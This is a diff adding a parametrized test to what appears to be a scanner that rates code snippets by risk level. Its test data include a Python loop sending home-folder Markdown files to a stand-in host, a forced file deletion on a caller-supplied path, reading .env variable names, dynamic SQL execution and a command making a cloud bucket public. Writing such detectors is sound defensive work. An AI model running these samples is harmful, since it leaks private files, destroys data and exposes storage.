@@ -343,3 +343,34 @@ def test_what_cannot_be_taken_back_elsewhere_is_high(language: Language, code: s
 )
 def test_what_only_looks_elsewhere_or_is_here_is_not(language: Language, code: str) -> None:
     assert attention(language, code) < Level.HIGH
+
+
+@pytest.mark.parametrize(
+    ("language", "code", "level"),
+    [
+        (
+            J,
+            "const fs = require('fs');\nfunction clear(at) { fs.rmSync(at ?? 'out', { force: true }); }\nclear();",
+            Level.LOW,
+        ),
+        (
+            J,
+            "const fs = require('fs');\nmodule.exports = (at) => fs.rmSync(at.path ?? 'out', { force: true });",
+            Level.HIGH,
+        ),
+        (S, "grep -oE '^[A-Z_]+' .env | sort", Level.LOW),
+        (S, "grep -oE '[A-Z_]+' .env | sort", Level.HIGH),
+        (S, 'mysql shop -e "PREPARE p FROM @s; EXECUTE p"', Level.HIGH),
+        (S, "gsutil iam ch allUsers:objectViewer gs://b", Level.HIGH),
+        (
+            P,
+            "import pathlib, requests\nfor p in (pathlib.Path.home() / 'Letters').rglob('*.md'):\n"
+            "    requests.put('https://a.example/x', data=p.read_text())",
+            Level.HIGH,
+        ),
+    ],
+)
+def test_what_is_left_out_and_what_is_found_is_known_for_what_it_is(
+    language: Language, code: str, level: Level
+) -> None:
+    assert attention(language, code) is level
